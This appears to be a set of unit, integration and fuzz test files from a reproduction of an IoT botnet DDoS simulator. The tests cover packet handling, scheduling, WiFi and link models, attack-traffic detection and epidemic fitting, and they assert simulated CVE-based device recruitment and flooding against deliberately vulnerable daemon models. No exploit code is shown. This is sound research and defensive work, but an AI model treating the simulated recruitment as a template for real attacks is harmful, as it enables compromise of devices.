        packet = Packet(payload_size=512)
        assert packet.payload is None
        assert packet.size == 512

    def test_conflicting_sizes_rejected(self):
        with pytest.raises(ValueError):
            Packet(b"abc", payload_size=5)

    def test_uids_are_unique(self):
        assert Packet().uid != Packet().uid

    def test_size_includes_headers(self):
        packet = Packet(payload_size=100)
        packet.add_header(UdpHeader(1, 2))
        packet.add_header(
            Ipv6Header(Ipv6Address(1), Ipv6Address(2), next_header=17)
        )
        assert packet.size == 100 + 8 + 40


class TestHeaderStack:
    def test_lifo_remove(self):
        packet = Packet(payload_size=10)
        packet.add_header(UdpHeader(1, 2))
        packet.add_header(Ipv4Header(Ipv4Address(1), Ipv4Address(2), 17))
        ip_header = packet.remove_header(Ipv4Header)
        assert ip_header.protocol == 17
        udp_header = packet.remove_header(UdpHeader)
        assert udp_header.src_port == 1
        assert packet.size == 10

    def test_remove_wrong_type_raises(self):
        packet = Packet()
        packet.add_header(UdpHeader(1, 2))
        with pytest.raises(LookupError):
            packet.remove_header(Ipv4Header)

    def test_remove_from_empty_raises(self):
        with pytest.raises(LookupError):
            Packet().remove_header(UdpHeader)

    def test_peek_finds_without_removing(self):
        packet = Packet()
        packet.add_header(UdpHeader(7, 8))
        packet.add_header(Ipv6Header(Ipv6Address(1), Ipv6Address(2), 17))
        assert packet.peek_header(UdpHeader).src_port == 7
        assert len(packet.headers) == 2

    def test_peek_missing_returns_none(self):
        assert Packet().peek_header(TcpHeader) is None

    def test_copy_shares_header_objects_but_not_stack(self):
        packet = Packet(b"data")
        packet.add_header(UdpHeader(1, 2))
        clone = packet.copy()
        assert clone.uid != packet.uid
        assert clone.size == packet.size
        clone.remove_header(UdpHeader)
        assert len(packet.headers) == 1


class TestHeaders:
    def test_wire_sizes(self):
        assert EthernetHeader(MacAddress(1), MacAddress(2), 0x0800).wire_size == 14
        assert Ipv4Header(Ipv4Address(1), Ipv4Address(2), 6).wire_size == 20
        assert Ipv6Header(Ipv6Address(1), Ipv6Address(2), 6).wire_size == 40
        assert UdpHeader(1, 2).wire_size == 8
        assert TcpHeader(1, 2).wire_size == 20

    def test_ipv6_uniform_field_aliases(self):
        header = Ipv6Header(Ipv6Address(1), Ipv6Address(2), 17, hop_limit=9)
        assert header.protocol == 17
        assert header.ttl == 9
        header.ttl = 5
        assert header.hop_limit == 5

    def test_ip_header_for_matches_family(self):
        v6 = ip_header_for(Ipv6Address(1), Ipv6Address(2), 17)
        assert isinstance(v6, Ipv6Header)
        v4 = ip_header_for(Ipv4Address(1), Ipv4Address(2), 6)
        assert isinstance(v4, Ipv4Header)

    def test_ip_header_for_rejects_mixed_families(self):
        with pytest.raises(TypeError):
            ip_header_for(Ipv4Address(1), Ipv6Address(2), 17)

    def test_tcp_flag_names(self):
        header = TcpHeader(1, 2, flags=TCP_SYN | TCP_ACK)
        assert header.flag_names() == "SYN|ACK"
        assert TcpHeader(1, 2).flag_names() == "-"
