"""Unit tests for the discrete-event scheduler."""

import pytest

from repro.netsim.simulator import SimulationError, Simulator


class TestScheduling:
    def test_starts_at_time_zero(self, sim):
        assert sim.now == 0.0

    def test_schedule_runs_at_requested_time(self, sim):
        seen = []
        sim.schedule(2.5, lambda: seen.append(sim.now))
        sim.run()
        assert seen == [2.5]

    def test_schedule_at_absolute_time(self, sim):
        seen = []
        sim.schedule_at(4.0, lambda: seen.append(sim.now))
        sim.run()
        assert seen == [4.0]

    def test_callback_arguments_are_passed(self, sim):
        seen = []
        sim.schedule(1.0, lambda a, b: seen.append((a, b)), 1, "x")
        sim.run()
        assert seen == [(1, "x")]

    def test_events_fire_in_time_order(self, sim):
        order = []
        sim.schedule(3.0, order.append, "late")
        sim.schedule(1.0, order.append, "early")
        sim.schedule(2.0, order.append, "middle")
        sim.run()
        assert order == ["early", "middle", "late"]

    def test_ties_fire_in_scheduling_order(self, sim):
        order = []
        for tag in ("a", "b", "c"):
            sim.schedule(1.0, order.append, tag)
        sim.run()
        assert order == ["a", "b", "c"]

    def test_negative_delay_rejected(self, sim):
        with pytest.raises(SimulationError):
            sim.schedule(-0.1, lambda: None)

    def test_scheduling_in_the_past_rejected(self, sim):
        sim.schedule(5.0, lambda: None)
        sim.run()
        with pytest.raises(SimulationError):
            sim.schedule_at(1.0, lambda: None)

    def test_schedule_now_runs_after_current_event(self, sim):
        order = []

        def first():
            sim.schedule_now(order.append, "nested")
            order.append("first")

        sim.schedule(1.0, first)
        sim.run()
        assert order == ["first", "nested"]

    def test_events_scheduled_during_run_execute(self, sim):
        seen = []

        def chain(n):
            seen.append(n)
            if n < 3:
                sim.schedule(1.0, chain, n + 1)

        sim.schedule(1.0, chain, 1)
        sim.run()
        assert seen == [1, 2, 3]
        assert sim.now == 3.0


class TestCancellation:
    def test_cancelled_event_does_not_fire(self, sim):
        seen = []
        event = sim.schedule(1.0, seen.append, "nope")
        event.cancel()
        sim.run()
        assert seen == []

    def test_cancel_one_of_several(self, sim):
        seen = []
        sim.schedule(1.0, seen.append, "keep")
        target = sim.schedule(1.0, seen.append, "drop")
        target.cancel()
        sim.run()
        assert seen == ["keep"]

    def test_peek_next_time_skips_cancelled(self, sim):
        cancelled = sim.schedule(1.0, lambda: None)
        sim.schedule(2.0, lambda: None)
        cancelled.cancel()
        assert sim.peek_next_time() == 2.0


class TestRunControl:
    def test_run_until_stops_clock_at_bound(self, sim):
        sim.schedule(10.0, lambda: None)
        final = sim.run(until=5.0)
        assert final == 5.0
        assert sim.pending_events == 1

    def test_run_until_advances_clock_when_queue_drains(self, sim):
        sim.schedule(1.0, lambda: None)
        final = sim.run(until=7.0)
        assert final == 7.0

    def test_stop_halts_after_current_event(self, sim):
        seen = []

        def first():
            seen.append("a")
            sim.stop()

        sim.schedule(1.0, first)
        sim.schedule(2.0, seen.append, "b")
        sim.run()
        assert seen == ["a"]

    def test_resume_after_stop(self, sim):
        seen = []
        sim.schedule(1.0, lambda: sim.stop())
        sim.schedule(2.0, seen.append, "later")
        sim.run()
        assert seen == []
        sim.run()
        assert seen == ["later"]

    def test_reentrant_run_rejected(self, sim):
        def nested():
            with pytest.raises(SimulationError):
                sim.run()

        sim.schedule(1.0, nested)
        sim.run()

    def test_event_counter(self, sim):
        for _ in range(5):
            sim.schedule(1.0, lambda: None)
        sim.run()
        assert sim.events_executed == 5

    def test_clock_never_goes_backwards(self, sim):
        stamps = []
        for delay in (3.0, 1.0, 2.0, 1.0):
            sim.schedule(delay, lambda: stamps.append(sim.now))
        sim.run()
        assert stamps == sorted(stamps)


class TestBoundarySemantics:
    """Pin the run/advance boundary contract the sharded engine relies
    on: ``run(until=T)`` is INCLUSIVE (events at exactly T fire) while
    ``advance_until(T)`` is EXCLUSIVE unless asked otherwise.  The
    conservative window protocol grants exclusive bounds so an event at
    exactly the bound always executes with the NEXT window's cross-shard
    hand-offs already scheduled; the final window re-runs inclusively to
    match ``run``.  Changing either boundary silently breaks the
    ``--shards N`` == ``--shards 1`` byte-identity guarantee."""

    def test_run_until_is_inclusive(self, sim):
        seen = []
        sim.schedule_at(5.0, seen.append, "at-bound")
        sim.schedule_at(5.0 + 1e-9, seen.append, "past-bound")
        final = sim.run(until=5.0)
        assert seen == ["at-bound"]
        assert final == 5.0
        assert sim.pending_events == 1

    def test_advance_until_is_exclusive_by_default(self, sim):
        seen = []
        sim.schedule_at(3.0, seen.append, "before")
        sim.schedule_at(5.0, seen.append, "at-bound")
        executed = sim.advance_until(5.0)
        assert seen == ["before"]
        assert executed == 1
        assert sim.pending_events == 1

    def test_advance_until_inclusive_matches_run(self, sim):
        seen = []
        sim.schedule_at(5.0, seen.append, "at-bound")
        sim.advance_until(5.0, inclusive=True)
        assert seen == ["at-bound"]

    def test_advance_until_does_not_pad_the_clock(self, sim):
        # run(until=) pads sim.now up to the bound when the queue drains;
        # advance_until must NOT, so a later window (or the final
        # inclusive run) sees the true last-event time.
        sim.schedule_at(2.0, lambda: None)
        sim.advance_until(10.0)
        assert sim.now == 2.0

    def test_advance_until_resumable_in_windows(self, sim):
        seen = []
        for t in (1.0, 2.0, 3.0, 4.0):
            sim.schedule_at(t, seen.append, t)
        sim.advance_until(2.0)
        assert seen == [1.0]
        sim.advance_until(3.5)
        assert seen == [1.0, 2.0, 3.0]
        sim.advance_until(4.0, inclusive=True)
        assert seen == [1.0, 2.0, 3.0, 4.0]

    def test_advance_until_respects_stop(self, sim):
        seen = []
        sim.schedule_at(1.0, sim.stop)
        sim.schedule_at(2.0, seen.append, "after-stop")
        sim.advance_until(5.0)
        assert seen == []

    def test_advance_until_rejected_while_running(self, sim):
        def nested():
            with pytest.raises(SimulationError):
                sim.advance_until(9.0)

        sim.schedule(1.0, nested)
        sim.run()

    def test_run_tail_padding_skipped_after_stop(self, sim):
        # The orchestrator's stop() must leave sim.now at the stop event,
        # not padded to sim_duration — results expose sim_end_time.
        sim.schedule_at(3.0, sim.stop)
        final = sim.run(until=10.0)
        assert final == 3.0
