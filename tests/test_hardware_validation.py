"""Integration tests for the hardware-testbed validation path (Figure 4)."""

import pytest

from repro.core import DDoSim, SimulationConfig
from repro.hardware import HardwareTestbed


def validation_config(n_devs, seed=3):
    return SimulationConfig(
        n_devs=n_devs,
        seed=seed,
        attack_duration=20.0,
        recruit_timeout=40.0,
        sim_duration=150.0,
    )


class TestHardwareTestbedRuns:
    def test_full_chain_works_on_wifi_fabric(self):
        result = HardwareTestbed(validation_config(4)).run()
        assert result.recruitment.infection_rate == 1.0
        assert result.attack.avg_received_kbps > 0

    def test_determinism(self):
        one = HardwareTestbed(validation_config(3, seed=8)).run()
        two = HardwareTestbed(validation_config(3, seed=8)).run()
        assert one.attack.avg_received_kbps == two.attack.avg_received_kbps

    def test_both_cves_recruit_over_wifi(self):
        config = validation_config(6)
        result = HardwareTestbed(config).run()
        assert sum(result.recruitment.by_binary.values()) == 6


class TestFigure4Agreement:
    @pytest.mark.parametrize("n_devs", [2, 8])
    def test_models_agree_within_tolerance(self, n_devs):
        """The paper's validation criterion: similar received-rate from
        the hardware testbed and from DDoSim at identical settings."""
        config = validation_config(n_devs)
        hardware = HardwareTestbed(config).run()
        simulated = DDoSim(config).run()
        assert hardware.recruitment.infection_rate == 1.0
        assert simulated.recruitment.infection_rate == 1.0
        divergence = abs(
            hardware.attack.avg_received_kbps - simulated.attack.avg_received_kbps
        ) / simulated.attack.avg_received_kbps
        assert divergence < 0.25

    def test_rates_scale_with_devices_on_both_models(self):
        small_config = validation_config(2)
        large_config = validation_config(8)
        assert (
            HardwareTestbed(large_config).run().attack.avg_received_kbps
            > HardwareTestbed(small_config).run().attack.avg_received_kbps
        )
        assert (
            DDoSim(large_config).run().attack.avg_received_kbps
            > DDoSim(small_config).run().attack.avg_received_kbps
        )
