"""Fuzz tests: parsers and daemons must be *total* against junk input.

The decoders may reject garbage (typed decode errors) but must never
raise anything else; the vulnerable daemons must never die from random
noise — only a correctly built exploit may take them down.  (Their
vulnerability is an unchecked copy, not general fragility.)
"""

from hypothesis import HealthCheck, given, settings, strategies as st

from repro.services import dhcp6, dns
from tests.helpers import MiniNet
from tests.test_daemons import make_dev


class TestDecoderTotality:
    @given(st.binary(max_size=300))
    def test_dns_decode_is_total(self, blob):
        try:
            message = dns.DnsMessage.decode(blob)
        except dns.DnsDecodeError:
            return
        assert isinstance(message, dns.DnsMessage)

    @given(st.binary(max_size=300))
    def test_dhcp6_decode_is_total(self, blob):
        try:
            message = dhcp6.Dhcp6Message.decode(blob)
        except dhcp6.Dhcp6DecodeError:
            return
        assert isinstance(message, dhcp6.Dhcp6Message)

    @given(st.binary(max_size=120))
    def test_dns_name_decode_is_total(self, blob):
        try:
            name, offset = dns.decode_name(blob, 0)
        except dns.DnsDecodeError:
            return
        assert offset <= len(blob)
        assert isinstance(name, str)


def _random_payload_strategy():
    """Junk plus protocol-shaped junk (right msg-type byte, bad rest)."""
    raw = st.binary(min_size=1, max_size=200)
    typed = st.binary(min_size=0, max_size=200).map(
        lambda tail: bytes([12]) + tail  # RELAY-FORW-shaped
    )
    return st.one_of(raw, typed)


class TestDaemonRobustness:
    @settings(max_examples=12, deadline=None,
              suppress_health_check=[HealthCheck.too_slow])
    @given(st.lists(_random_payload_strategy(), min_size=1, max_size=5))
    def test_dnsmasq_survives_garbage(self, payloads):
        from repro.binaries.dnsmasq import make_dnsmasq_binary
        from repro.netsim.node import Node
        from repro.netsim.sockets import UdpSocket

        mininet = MiniNet()
        _container, dev_node, process = make_dev(
            mininet, make_dnsmasq_binary(), name="fuzzdev"
        )
        attacker = Node(mininet.sim, "fuzzer")
        mininet.star.attach_host(attacker, 10e6)
        sock = UdpSocket(attacker)
        for index, payload in enumerate(payloads):
            mininet.sim.schedule(
                0.5 + index * 0.1,
                sock.sendto,
                payload,
                mininet.star.address_of(dev_node),
                547,
            )
        mininet.sim.run(until=10.0)
        assert not process.exited, f"daemon died on junk: {payloads!r}"

    @settings(max_examples=12, deadline=None,
              suppress_health_check=[HealthCheck.too_slow])
    @given(st.binary(min_size=1, max_size=200))
    def test_connman_survives_garbage_responses(self, payload):
        from repro.binaries.connman import make_connman_binary
        from repro.netsim.node import Node
        from repro.netsim.process import SimProcess
        from repro.netsim.sockets import UdpSocket

        mininet = MiniNet()
        attacker = Node(mininet.sim, "fuzzer")
        mininet.star.attach_host(attacker, 10e6)
        sock = UdpSocket(attacker, 53)
        _container, _dev_node, process = make_dev(
            mininet,
            make_connman_binary(),
            name="fuzzdev",
            env={"DNS_SERVER": str(mininet.star.address_of(attacker))},
        )

        def respond_with_junk():
            _query, (source, port) = yield sock.recvfrom()
            sock.sendto(payload, source, port)

        SimProcess(mininet.sim, respond_with_junk(), name="junk-server")
        mininet.sim.run(until=15.0)
        assert not process.exited, f"daemon died on junk response: {payload!r}"
