"""Unit tests for the CSMA/CA WiFi model and the hardware testbed fabric."""

import random

import pytest

from repro.hardware.testbed import WifiHostLink, WifiTestbedInternet
from repro.hardware.wifi import CW_MIN, WifiChannel, WifiDevice
from repro.netsim.headers import PROTO_UDP, UdpHeader, ip_header_for
from repro.netsim.node import Node
from repro.netsim.packet import Packet
from repro.netsim.simulator import Simulator
from repro.netsim.sink import PacketSink


def station_pair(sim, loss_rate=0.0, seed=1):
    channel = WifiChannel(sim, phy_rate_bps=54e6, loss_rate=loss_rate,
                          rng=random.Random(seed))
    ap = WifiDevice(sim, 54e6, is_access_point=True, name="ap")
    station = WifiDevice(sim, 250e3, name="sta")
    channel.attach(ap)
    channel.attach(station)
    station.access_point = ap
    return channel, ap, station


class TestWifiChannel:
    def test_station_frame_reaches_ap(self, sim):
        channel, ap, station = station_pair(sim)
        arrivals = []
        ap.receive = lambda frame: arrivals.append(sim.now)
        station.send(Packet(payload_size=500))
        sim.run()
        assert len(arrivals) == 1
        assert channel.frames_delivered == 1

    def test_frames_serialize_at_phy_rate_plus_overhead(self, sim):
        channel, ap, station = station_pair(sim)
        arrivals = []
        ap.receive = lambda frame: arrivals.append(sim.now)
        station.send(Packet(payload_size=1350))  # 10800 bits @ 54 Mbps = 200 us
        sim.run()
        # DIFS + backoff slots + airtime + MAC overhead: bounded window.
        assert 0.0002 < arrivals[0] < 0.002

    def test_two_contenders_both_eventually_deliver(self, sim):
        channel = WifiChannel(sim, rng=random.Random(2))
        ap = WifiDevice(sim, 54e6, is_access_point=True)
        stations = []
        for index in range(2):
            station = WifiDevice(sim, 250e3, name=f"sta{index}")
            channel.attach(station)
            station.access_point = ap
            stations.append(station)
        channel.attach(ap)
        received = []
        ap.receive = lambda frame: received.append(frame)
        for station in stations:
            for _ in range(5):
                station.send(Packet(payload_size=200))
        sim.run(until=1.0)
        assert len(received) == 10

    def test_collisions_occur_under_contention(self, sim):
        channel = WifiChannel(sim, rng=random.Random(3))
        ap = WifiDevice(sim, 54e6, is_access_point=True)
        channel.attach(ap)
        stations = []
        for index in range(8):
            station = WifiDevice(sim, 250e3, name=f"sta{index}")
            channel.attach(station)
            station.access_point = ap
            stations.append(station)
        ap.receive = lambda frame: None
        for _round in range(30):
            for station in stations:
                station.send(Packet(payload_size=400))
        sim.run(until=5.0)
        assert channel.frames_collided > 0

    def test_noise_loss_with_retry_still_delivers(self, sim):
        channel, ap, station = station_pair(sim, loss_rate=0.3, seed=5)
        received = []
        ap.receive = lambda frame: received.append(frame)
        for _ in range(20):
            station.send(Packet(payload_size=300))
        sim.run(until=5.0)
        assert channel.frames_lost_noise > 0
        assert len(received) >= 18  # retries recover nearly everything

    def test_retry_cap_drops_frames(self, sim):
        channel, ap, station = station_pair(sim, loss_rate=0.97, seed=6)
        ap.receive = lambda frame: None
        for _ in range(5):
            station.send(Packet(payload_size=100))
        sim.run(until=30.0)
        assert station.frames_dropped_retry > 0

    def test_contention_window_resets_after_success(self, sim):
        channel, ap, station = station_pair(sim, loss_rate=0.0)
        ap.receive = lambda frame: None
        station.contention_window = 255
        station.send(Packet(payload_size=100))
        sim.run()
        assert station.contention_window == CW_MIN

    def test_down_station_drops_traffic(self, sim):
        channel, ap, station = station_pair(sim)
        station.set_down()
        assert not station.send(Packet(payload_size=100))

    def test_queue_overflow(self, sim):
        channel, ap, station = station_pair(sim)
        station.queue_limit = 2
        for _ in range(10):
            station.send(Packet(payload_size=100))
        assert station.queue_drops > 0

    def test_invalid_parameters(self, sim):
        with pytest.raises(ValueError):
            WifiChannel(sim, phy_rate_bps=0)
        with pytest.raises(ValueError):
            WifiChannel(sim, loss_rate=1.0)


class TestWifiTestbedInternet:
    def test_slow_hosts_go_wireless_fast_hosts_wired(self, sim):
        fabric = WifiTestbedInternet(sim)
        iot = Node(sim, "iot")
        desktop = Node(sim, "desktop")
        iot_link = fabric.attach_host(iot, 300e3)
        desktop_link = fabric.attach_host(desktop, 100e6)
        assert isinstance(iot_link, WifiHostLink)
        assert not isinstance(desktop_link, WifiHostLink)

    def test_wireless_to_wired_end_to_end(self, sim):
        fabric = WifiTestbedInternet(sim)
        iot = Node(sim, "iot")
        desktop = Node(sim, "desktop")
        fabric.attach_host(iot, 300e3)
        fabric.attach_host(desktop, 100e6)
        sink = PacketSink(desktop)
        sink.start()
        iot.udp.send_datagram(
            None, fabric.address_of(desktop), 7777, src_port=1, payload_size=400
        )
        sim.run(until=1.0)
        assert sink.total_packets == 1

    def test_wired_to_wireless_end_to_end(self, sim):
        fabric = WifiTestbedInternet(sim)
        iot = Node(sim, "iot")
        desktop = Node(sim, "desktop")
        fabric.attach_host(iot, 300e3)
        fabric.attach_host(desktop, 100e6)
        sink = PacketSink(iot)
        sink.start()
        desktop.udp.send_datagram(
            None, fabric.address_of(iot), 7777, src_port=1, payload_size=400
        )
        sim.run(until=1.0)
        assert sink.total_packets == 1

    def test_multicast_replicated_to_stations(self, sim):
        from repro.netsim.address import ALL_DHCP_RELAY_AGENTS_AND_SERVERS

        fabric = WifiTestbedInternet(sim)
        sender = Node(sim, "sender")
        fabric.attach_host(sender, 100e6)
        sinks = []
        for index in range(3):
            iot = Node(sim, f"iot{index}")
            fabric.attach_host(iot, 300e3)
            iot.ip.join_multicast(ALL_DHCP_RELAY_AGENTS_AND_SERVERS)
            inbox = []
            iot.udp.bind(547, lambda p, u, i, inbox=inbox: inbox.append(p))
            sinks.append(inbox)
        packet = Packet(payload_size=60)
        packet.add_header(UdpHeader(546, 547))
        sender.ip.send(packet, ALL_DHCP_RELAY_AGENTS_AND_SERVERS, PROTO_UDP)
        sim.run(until=1.0)
        assert all(len(inbox) == 1 for inbox in sinks)

    def test_churn_interface(self, sim):
        fabric = WifiTestbedInternet(sim)
        iot = Node(sim, "iot")
        link = fabric.attach_host(iot, 300e3)
        fabric.set_host_up(iot, False)
        assert not link.up
        fabric.set_host_up(iot, True)
        assert link.up

    def test_double_attach_rejected(self, sim):
        fabric = WifiTestbedInternet(sim)
        iot = Node(sim, "iot")
        fabric.attach_host(iot, 300e3)
        with pytest.raises(ValueError):
            fabric.attach_host(iot, 300e3)

    def test_queue_drop_accounting(self, sim):
        fabric = WifiTestbedInternet(sim)
        iot = Node(sim, "iot")
        fabric.attach_host(iot, 300e3)
        assert fabric.total_queue_drops() == 0
