"""Tests for the analysis use cases: features, detection, epidemics."""

import numpy as np
import pytest

from repro.analysis.detection import (
    DetectionMetrics,
    LogisticRegressionClassifier,
    train_test_split,
)
from repro.analysis.epidemic import fit_si_model, si_curve, sir_curve
from repro.analysis.features import FEATURE_NAMES, window_features, windows_from_capture
from repro.netsim.tracing import CapturedPacket


def synth_records(start, count, rate, size, sources, dst_port=7777, protocol=17):
    """Synthesize capture records: `count` packets from `sources` cycled."""
    records = []
    for index in range(count):
        records.append(
            CapturedPacket(
                time=start + index / rate,
                src=f"10.0.0.{sources[index % len(sources)]}",
                dst="10.0.9.9",
                protocol=protocol,
                src_port=1000 + index % len(sources),
                dst_port=dst_port,
                size=size,
            )
        )
    return records


class TestFeatures:
    def test_empty_window_is_zero_vector(self):
        assert window_features([], 1.0) == [0.0] * len(FEATURE_NAMES)

    def test_rates_and_sizes(self):
        records = synth_records(0.0, 50, rate=50.0, size=200, sources=[1])
        features = dict(zip(FEATURE_NAMES, window_features(records, 1.0)))
        assert features["packet_rate"] == 50.0
        assert features["byte_rate"] == 10_000.0
        assert features["mean_packet_size"] == 200.0
        assert features["std_packet_size"] == 0.0

    def test_source_dispersion(self):
        one = dict(zip(FEATURE_NAMES, window_features(
            synth_records(0.0, 40, 40.0, 100, sources=[1]), 1.0)))
        many = dict(zip(FEATURE_NAMES, window_features(
            synth_records(0.0, 40, 40.0, 100, sources=list(range(10))), 1.0)))
        assert many["distinct_sources"] > one["distinct_sources"]
        assert many["source_entropy"] > one["source_entropy"]
        assert many["top_source_share"] < one["top_source_share"]

    def test_protocol_mix(self):
        udp = synth_records(0.0, 10, 10.0, 100, [1], protocol=17)
        tcp = synth_records(0.0, 10, 10.0, 100, [1], protocol=6)
        features = dict(zip(FEATURE_NAMES, window_features(udp + tcp, 2.0)))
        assert features["udp_fraction"] == pytest.approx(0.5)
        assert features["tcp_fraction"] == pytest.approx(0.5)

    def test_windowing_and_labels(self):
        benign = synth_records(0.0, 20, 4.0, 100, [1, 2])      # t in [0, 5)
        attack = synth_records(10.0, 200, 40.0, 520, range(8))  # t in [10, 15)
        X, y = windows_from_capture(
            benign + attack, start=0.0, end=15.0, window=1.0,
            attack_interval=(10.0, 15.0),
        )
        assert X.shape == (15, len(FEATURE_NAMES))
        assert y[:10].sum() == 0
        assert y[10:].sum() == 5

    def test_invalid_window_rejected(self):
        with pytest.raises(ValueError):
            windows_from_capture([], 0.0, 1.0, 0.0, (0.0, 1.0))


class TestLogisticRegression:
    def make_separable(self, n=200, seed=0):
        rng = np.random.default_rng(seed)
        X0 = rng.normal(0.0, 1.0, size=(n // 2, 4))
        X1 = rng.normal(3.5, 1.0, size=(n // 2, 4))
        X = np.vstack([X0, X1])
        y = np.array([0] * (n // 2) + [1] * (n // 2))
        return X, y

    def test_learns_separable_data(self):
        X, y = self.make_separable()
        model = LogisticRegressionClassifier(epochs=300).fit(X, y)
        metrics = model.evaluate(X, y)
        assert metrics.accuracy > 0.97
        assert metrics.f1 > 0.97

    def test_loss_decreases(self):
        X, y = self.make_separable()
        model = LogisticRegressionClassifier(epochs=200).fit(X, y)
        assert model.loss_history[-1] < model.loss_history[0]

    def test_probabilities_bounded(self):
        X, y = self.make_separable()
        model = LogisticRegressionClassifier(epochs=100).fit(X, y)
        proba = model.predict_proba(X)
        assert np.all(proba >= 0) and np.all(proba <= 1)

    def test_predict_before_fit_rejected(self):
        with pytest.raises(RuntimeError):
            LogisticRegressionClassifier().predict(np.zeros((2, 3)))

    def test_shape_validation(self):
        with pytest.raises(ValueError):
            LogisticRegressionClassifier().fit(np.zeros(5), np.zeros(5))

    def test_metrics_from_predictions(self):
        metrics = DetectionMetrics.from_predictions(
            np.array([1, 1, 0, 0]), np.array([1, 0, 0, 1])
        )
        assert metrics.true_positives == 1
        assert metrics.false_negatives == 1
        assert metrics.false_positives == 1
        assert metrics.true_negatives == 1
        assert metrics.accuracy == 0.5

    def test_degenerate_metrics_do_not_divide_by_zero(self):
        metrics = DetectionMetrics.from_predictions(
            np.array([0, 0]), np.array([0, 0])
        )
        assert metrics.precision == 0.0
        assert metrics.recall == 0.0
        assert metrics.f1 == 0.0

    def test_train_test_split(self):
        X = np.arange(100).reshape(50, 2)
        y = np.arange(50)
        X_train, y_train, X_test, y_test = train_test_split(X, y, 0.2, seed=1)
        assert len(X_train) == 40 and len(X_test) == 10
        assert set(y_train) | set(y_test) == set(range(50))
        with pytest.raises(ValueError):
            train_test_split(X, y, 0.0)


class TestEpidemicModels:
    def test_si_curve_is_logistic(self):
        times = np.linspace(0, 100, 200)
        infected = si_curve(times, beta=0.2, population=100, i0=1)
        assert infected[0] == pytest.approx(1.0)
        assert infected[-1] == pytest.approx(100.0, rel=0.01)
        assert np.all(np.diff(infected) >= -1e-9)  # monotone growth

    def test_si_parameter_validation(self):
        with pytest.raises(ValueError):
            si_curve(np.array([0.0]), beta=0.1, population=0)

    def test_sir_infected_peaks_and_declines(self):
        times = np.linspace(0, 200, 400)
        infected = sir_curve(times, beta=0.3, gamma=0.05, population=1000, i0=1)
        peak = int(np.argmax(infected))
        assert 0 < peak < len(times) - 1
        assert infected[-1] < infected[peak]

    def test_sir_with_zero_gamma_matches_si(self):
        times = np.linspace(0, 80, 100)
        si = si_curve(times, beta=0.2, population=50, i0=1)
        sir = sir_curve(times, beta=0.2, gamma=0.0, population=50, i0=1)
        assert np.allclose(si, sir, rtol=0.02)

    def test_fit_recovers_known_beta(self):
        times = np.linspace(0, 120, 121)
        truth = si_curve(times, beta=0.15, population=80, i0=1)
        rng = np.random.default_rng(0)
        noisy = truth + rng.normal(0, 0.5, size=truth.shape)
        fit = fit_si_model(times, noisy, population=80, i0=1)
        assert fit.beta == pytest.approx(0.15, rel=0.05)
        assert fit.r_squared > 0.99
