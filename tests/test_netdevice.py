"""Unit tests for point-to-point devices, channels and link dynamics."""

import pytest

from repro.netsim.channel import PointToPointChannel
from repro.netsim.netdevice import PointToPointDevice
from repro.netsim.packet import Packet
from repro.netsim.queues import DropTailQueue


def make_link(sim, rate_a=1e6, rate_b=1e6, delay=0.01, queue_a=None):
    channel = PointToPointChannel(sim, delay=delay)
    dev_a = PointToPointDevice(
        sim, rate_a, queue_a if queue_a is not None else DropTailQueue(), name="a"
    )
    dev_b = PointToPointDevice(sim, rate_b, name="b")
    channel.attach(dev_a)
    channel.attach(dev_b)
    return dev_a, dev_b, channel


class TestTransmission:
    def test_packet_arrives_after_serialization_plus_propagation(self, sim):
        dev_a, dev_b, _ = make_link(sim, rate_a=1e6, delay=0.05)
        arrivals = []
        dev_b.receive = lambda packet: arrivals.append(sim.now)
        dev_a.send(Packet(payload_size=1250))  # 10 000 bits @ 1 Mbps = 10 ms
        sim.run()
        assert arrivals == [pytest.approx(0.01 + 0.05)]

    def test_back_to_back_packets_serialize_sequentially(self, sim):
        dev_a, dev_b, _ = make_link(sim, rate_a=1e6, delay=0.0)
        arrivals = []
        dev_b.receive = lambda packet: arrivals.append(sim.now)
        for _ in range(3):
            dev_a.send(Packet(payload_size=1250))
        sim.run()
        assert arrivals == [pytest.approx(0.01 * k) for k in (1, 2, 3)]

    def test_throughput_bounded_by_data_rate(self, sim):
        dev_a, dev_b, _ = make_link(sim, rate_a=8e5, delay=0.0,
                                    queue_a=DropTailQueue(max_packets=1000))
        received_bytes = []
        dev_b.receive = lambda packet: received_bytes.append(packet.size)
        for _ in range(100):
            dev_a.send(Packet(payload_size=1000))
        sim.run(until=0.5)  # 800 kbps * 0.5 s = 50 kB = 50 packets
        assert 48 <= len(received_bytes) <= 51

    def test_counters(self, sim):
        dev_a, dev_b, channel = make_link(sim)
        dev_a.send(Packet(payload_size=100))
        sim.run()
        assert dev_a.tx_packets == 1
        assert dev_a.tx_bytes == 100
        assert dev_b.rx_packets == 1
        assert channel.packets_carried == 1

    def test_queue_overflow_counts_drops(self, sim):
        queue = DropTailQueue(max_packets=2)
        dev_a, dev_b, _ = make_link(sim, rate_a=1e3, queue_a=queue)
        for _ in range(10):
            dev_a.send(Packet(payload_size=1000))
        assert queue.dropped > 0


class TestLinkState:
    def test_down_device_drops_sends(self, sim):
        dev_a, dev_b, _ = make_link(sim)
        dev_a.set_down()
        assert not dev_a.send(Packet(payload_size=10))
        assert dev_a.drops_down == 1

    def test_down_device_drops_receives(self, sim):
        dev_a, dev_b, _ = make_link(sim)
        dev_b.set_down()
        dev_a.send(Packet(payload_size=10))
        sim.run()
        assert dev_b.rx_packets == 0
        assert dev_b.drops_down == 1

    def test_going_down_clears_queue(self, sim):
        queue = DropTailQueue()
        dev_a, _, _ = make_link(sim, rate_a=1e3, queue_a=queue)
        for _ in range(5):
            dev_a.send(Packet(payload_size=1000))
        dev_a.set_down()
        assert queue.empty

    def test_link_recovers_after_up(self, sim):
        dev_a, dev_b, _ = make_link(sim)
        dev_a.set_down()
        dev_a.set_up()
        assert dev_a.send(Packet(payload_size=10))
        sim.run()
        assert dev_b.rx_packets == 1


class TestChannel:
    def test_third_attachment_rejected(self, sim):
        _, _, channel = make_link(sim)
        with pytest.raises(ValueError):
            channel.attach(PointToPointDevice(sim, 1e6))

    def test_negative_delay_rejected(self, sim):
        with pytest.raises(ValueError):
            PointToPointChannel(sim, delay=-1.0)

    def test_lossy_channel_drops_fraction(self, sim):
        import random

        channel = PointToPointChannel(sim, delay=0.0, loss_rate=0.5,
                                      rng=random.Random(1))
        dev_a = PointToPointDevice(sim, 1e9, DropTailQueue(max_packets=500))
        dev_b = PointToPointDevice(sim, 1e9)
        channel.attach(dev_a)
        channel.attach(dev_b)
        received = []
        dev_b.receive = lambda packet: received.append(packet)
        for _ in range(200):
            dev_a.send(Packet(payload_size=10))
